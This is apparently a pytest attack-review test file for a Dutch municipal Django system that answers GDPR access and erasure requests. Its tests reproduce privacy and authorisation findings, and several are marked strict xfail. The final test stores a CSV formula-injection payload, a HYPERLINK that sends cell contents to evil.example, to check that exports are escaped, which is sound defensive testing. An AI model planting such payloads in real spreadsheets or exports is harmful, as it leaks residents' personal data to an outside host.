"""Attack review of issue 17 (access and erasure requests answered from the case records).
Each test proves a finding and is expected to fail until it is fixed (strict xfail)."""

import contextlib
import datetime
import json

import pytest
from django.utils import timezone

from accesslog.models import AccessLogEntry
from cases.models import DebtSignal, ReportingOrganisation, SignalReport, YouthRepresentative
from cases.services import api_client_create
from core.crypto import blind_index
from requests_app.answer_files import response_file_content
from subjects import answer as assembly
from subjects import services
from subjects.models import AccessAnswer
from tests.cases.factories import DebtSignalFactory, OrganisationFactory, YouthCaseFactory
from tests.conftest import otp_login
from tests.requests_app.factories import subject_request

from .conftest import CHILD, PARENT
from .test_answer import ANSWER_FIELDS

pytestmark = pytest.mark.django_db
BASE = "/api/intake"
STRANGER = "999999990"  # a neighbour: valid 11-check BSN, nobody's request
RECORDS = "/beheer/requests_app/subjectrequest/{}/records/"


def _verified(kind, bsn, **extra):
    return subject_request(
        kind=kind,
        domain="debt",
        status=extra.pop("status", "in_progress"),
        bsn=bsn,
        bsn_index=blind_index(bsn),
        identity_method="counter",
        identity_verified_at=datetime.datetime(2026, 3, 2, 11, tzinfo=datetime.UTC),
        **extra,
    )


# fixed, kept as a test
def test_attack17_bsn_changed_after_approval_request_releases_unreviewed_records(person):
    from requests_app import letter_drafts

    DebtSignalFactory(
        bsn=STRANGER, reporting_organisation=OrganisationFactory(name="Vesteda Wonen")
    )
    writer, approver = person.youth_handler, person.dpo
    draft = letter_drafts.draft_start(request=person.request, letter_type="answer", actor=writer)
    draft = letter_drafts.draft_save(
        draft=draft, fields=ANSWER_FIELDS, actor=writer, expected_version=draft.version
    )
    draft = letter_drafts.draft_submit(draft=draft, actor=writer, expected_version=draft.version)
    services.access_answer_prepare(request=person.request, actor=writer)

    # After the approval was asked for, the same handler types another person's BSN.
    try:
        services.request_bsn_record(
            request=person.request, bsn=STRANGER, method="counter", actor=writer
        )
    except services.SubjectRefused:
        changed = False
    else:
        changed = True
    draft.refresh_from_db()
    letter_drafts.draft_issue(draft=draft, actor=approver, expected_version=draft.version)

    files = {f.content_type: f for f in person.request.response_files.all()}
    exported = json.loads(response_file_content(files["application/json"]))
    sources = {record["source"] for record in exported["records"]}
    assert "Vesteda Wonen" not in sources, (changed, sources)


# fixed, kept as a test
def test_attack17_who_viewed_leaks_another_persons_request_reference(client, person):
    other_parent = "100000010"
    YouthRepresentative.objects.create(youth_case=person.youth, capacity="parent", bsn=other_parent)
    other = _verified("access", other_parent)
    otp_login(client, person.youth_handler)
    assert client.get(RECORDS.format(other.pk)).status_code == 200

    records = services.subject_records(request=person.request, domains=["debt", "youth"])
    built = assembly.answer_build(request=person.request, records=records, removed={})
    purposes = " ".join(view["purpose"] for view in built["views"])
    assert other.reference not in purposes


# fixed, kept as a test
def test_attack17_restricted_case_takes_a_joined_signal(client, published):
    landlord = OrganisationFactory(name="Woonpunt")
    signal = DebtSignalFactory(
        bsn=PARENT,
        reporting_organisation=landlord,
        restricted_since=datetime.date(2026, 3, 1),
        signal_received_on=datetime.date(2026, 1, 10),
    )
    insurer = OrganisationFactory(name="CZ", kind=ReportingOrganisation.Kind.HEALTH_INSURER)
    _c, token = api_client_create(organisation=insurer, name="cz", scopes=["signals:write"])
    body = {
        "bsn": PARENT,
        "name": "Jan Jansen",
        "address": "Akerstraat 1, Heerlen",
        "date_of_birth": "1980-01-01",
        "arrears_amount": "300.00",
        "arrears_since": "2026-02-01",
    }
    response = client.post(
        f"{BASE}/debt-signals/",
        data=body,
        content_type="application/json",
        HTTP_IDEMPOTENCY_KEY="join-restricted",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert response.status_code in (201, 409), response.content
    assert not SignalReport.objects.filter(debt_signal=signal).exists()
    signal.refresh_from_db()
    assert signal.latest_signal_on in (None, datetime.date(2026, 1, 10))


@pytest.mark.xfail(
    strict=True,
    reason="F4: a party whose signal joined the erased case gets 404, not 410: the erasure "
    "is never told to it (GDPR art. 19), unlike the first reporter",
)
def test_attack17_joined_reporter_is_not_told_of_the_erasure(client, person):
    signal = person.signals[0]
    insurer = OrganisationFactory(name="VGZ", kind=ReportingOrganisation.Kind.HEALTH_INSURER)
    report = SignalReport.objects.create(
        debt_signal=signal,
        reporting_organisation=insurer,
        signal_received_on=datetime.date(2026, 2, 2),
        arrears_type="health_insurance",
        arrears_amount="120.00",
        arrears_since=datetime.date(2026, 1, 1),
    )
    _c, token = api_client_create(organisation=insurer, name="vgz", scopes=["signals:write"])
    request = _verified("erasure", PARENT)
    key = next(
        r.key
        for r in services.subject_records(request=request, domains=["debt"])
        if r.record_id == str(signal.public_id)
    )
    services.record_act(request=request, key=key, action="erase", actor=person.handler)
    assert not DebtSignal.objects.filter(pk=signal.pk).exists()

    status = client.get(
        f"{BASE}/debt-signals/{report.public_id}/", HTTP_AUTHORIZATION=f"Bearer {token}"
    )
    assert status.status_code == 410


# F5 fixed, kept as a test: each reviewer's domains join the answer.
def test_attack17_answer_domains_frozen_by_first_viewer(client, person):
    otp_login(client, person.handler)  # team debt only
    client.get(RECORDS.format(person.request.pk))
    client.logout()
    otp_login(client, person.youth_handler)  # debt and youth: sees the youth case
    page = client.get(RECORDS.format(person.request.pk))
    assert any(row["record"].record_type == "youth_case" for row in page.context["rows"])

    answer = AccessAnswer.objects.get(request=person.request)
    assert "youth" in answer.domains


# fixed, kept as a test
def test_attack17_closed_request_takes_a_new_bsn_and_looks_it_up(client, person):
    DebtSignalFactory(bsn=STRANGER)
    closed = _verified("access", PARENT, status="completed")
    refused = False
    try:
        services.request_bsn_record(
            request=closed, bsn=STRANGER, method="counter", actor=person.handler
        )
    except services.SubjectRefused:
        refused = True
    otp_login(client, person.handler)
    page = client.get(RECORDS.format(closed.pk))
    assert refused or not page.context["rows"]


# F7 fixed, kept as a test: from 16 the young person's care content is not the parent's.
def test_attack17_parent_gets_health_data_of_a_seventeen_year_old(person):
    today = timezone.localdate()
    teen = YouthCaseFactory(
        bsn="100000009",
        youth_date_of_birth=today.replace(year=today.year - 17),
        health_data="ADHD, medicatie",
    )
    YouthRepresentative.objects.create(youth_case=teen, capacity="parent", bsn=PARENT)
    records = services.subject_records(request=person.request, domains=["debt", "youth"])
    (found,) = [r for r in records if r.record_id == str(teen.public_id)]
    assert not any(line.key == "health_data" for line in found.lines)


def test_attack17_auditor_and_debt_handler_get_no_youth_records(client, person):
    """Held: the auditor is refused, the debt-only handler sees no youth case."""
    otp_login(client, person.auditor)
    assert client.get(RECORDS.format(person.request.pk)).status_code == 403
    client.logout()
    otp_login(client, person.handler)
    page = client.get(RECORDS.format(person.request.pk))
    assert page.status_code == 200
    assert {row["record"].record_type for row in page.context["rows"]} == {"debt_signal"}
    assert not AccessLogEntry.objects.filter(purpose__contains=PARENT).exists()
    assert CHILD not in page.content.decode()


# fixed, kept as a test
def test_attack17_one_handler_erases_a_typed_bsns_signals(person):
    victim = DebtSignalFactory(bsn=STRANGER)
    erasure = subject_request(kind="erasure", domain="debt", status="in_progress")
    erasure = services.request_bsn_record(
        request=erasure, bsn=STRANGER, method="counter", actor=person.handler
    )
    key = next(r.key for r in services.subject_records(request=erasure, domains=["debt"]))
    with contextlib.suppress(services.SubjectRefused):
        services.record_act(request=erasure, key=key, action="erase", actor=person.handler)
    assert DebtSignal.objects.filter(pk=victim.pk).exists()


# fixed, kept as a test
def test_attack17_nightly_run_destroys_a_restricted_record(published):
    from zoneinfo import ZoneInfo

    from retention.purge import records_purge

    signal = DebtSignalFactory(
        closed=True,
        signal_received_on=datetime.date(2026, 1, 31),
        restricted_since=datetime.date(2026, 3, 1),
    )
    records_purge(now=datetime.datetime(2026, 8, 1, 1, 30, tzinfo=ZoneInfo("Europe/Amsterdam")))
    assert DebtSignal.objects.filter(pk=signal.pk).exists()


@pytest.mark.xfail(
    strict=True,
    reason="F10: the 410 'erased at the resident's request' is answered to any client with a "
    "signals scope, not only the signal's own reporting party",
)
def test_attack17_erasure_status_told_to_another_reporting_party(client, person):
    signal = person.signals[0]
    request = _verified("erasure", PARENT)
    key = next(
        r.key
        for r in services.subject_records(request=request, domains=["debt"])
        if r.record_id == str(signal.public_id)
    )
    services.record_act(request=request, key=key, action="erase", actor=person.handler)
    rival = OrganisationFactory(name="Energie BV", kind=ReportingOrganisation.Kind.ENERGY_COMPANY)
    _c, token = api_client_create(organisation=rival, name="e", scopes=["signals:write"])
    status = client.get(
        f"{BASE}/debt-signals/{signal.public_id}/", HTTP_AUTHORIZATION=f"Bearer {token}"
    )
    assert status.status_code == 404


# fixed, kept as a test
def test_attack17_digid_bsn_overwritten_after_a_step_sets_a_staff_method(person):
    from requests_app.services import request_transition

    filed = subject_request(
        kind="access",
        domain="debt",
        status="received",
        bsn=PARENT,
        bsn_index=blind_index(PARENT),
        digid_level=20,
        identity_method="digid",
    )
    request_transition(
        request=filed, to_status="in_progress", actor=person.handler, verification_method="counter"
    )
    filed.refresh_from_db()
    with pytest.raises(services.SubjectRefused):
        services.request_bsn_record(
            request=filed, bsn=STRANGER, method="counter", actor=person.handler
        )


@pytest.mark.xfail(
    strict=True,
    reason="F12: the reporting party can tell an erasure at the resident's request (410 "
    "'erased') from a normal destruction (404): the landlord learns the resident used art. 17",
)
def test_attack17_reporter_tells_erasure_from_normal_destruction(client, published):
    from zoneinfo import ZoneInfo

    from retention.purge import records_purge

    landlord = OrganisationFactory(name="Woonpunt")
    _c, token = api_client_create(organisation=landlord, name="wp", scopes=["signals:write"])
    destroyed = DebtSignalFactory(
        closed=True, reporting_organisation=landlord, signal_received_on=datetime.date(2026, 1, 31)
    )
    records_purge(now=datetime.datetime(2026, 8, 1, 1, 30, tzinfo=ZoneInfo("Europe/Amsterdam")))
    assert not DebtSignal.objects.filter(pk=destroyed.pk).exists()
    erased = DebtSignalFactory(bsn=PARENT, reporting_organisation=landlord)
    request = _verified("erasure", PARENT)
    (record,) = services.subject_records(request=request, domains=["debt"])
    services.record_act(request=request, key=record.key, action="erase", actor=_debt_handler())

    def status(signal):
        url = f"{BASE}/debt-signals/{signal.public_id}/"
        return client.get(url, HTTP_AUTHORIZATION=f"Bearer {token}").status_code

    assert status(erased) == status(destroyed)


def _debt_handler():
    from requests_app import roles
    from tests.requests_app.factories import staff

    return staff(roles.HANDLER, teams=["debt"])


# fixed, kept as a test
def test_attack17_csv_export_carries_a_formula(published):
    import csv
    import io

    DebtSignalFactory(bsn=STRANGER, name='=HYPERLINK("https://evil.example/?"&A1,"klik")')
    request = _verified("access", STRANGER)
    records = services.subject_records(request=request, domains=["debt"])
    built = assembly.answer_build(request=request, records=records, removed={})
    rows = list(csv.reader(io.StringIO(assembly.answer_csv(built).decode())))
    assert not any(cell.startswith("=") for row in rows[1:] for cell in row)
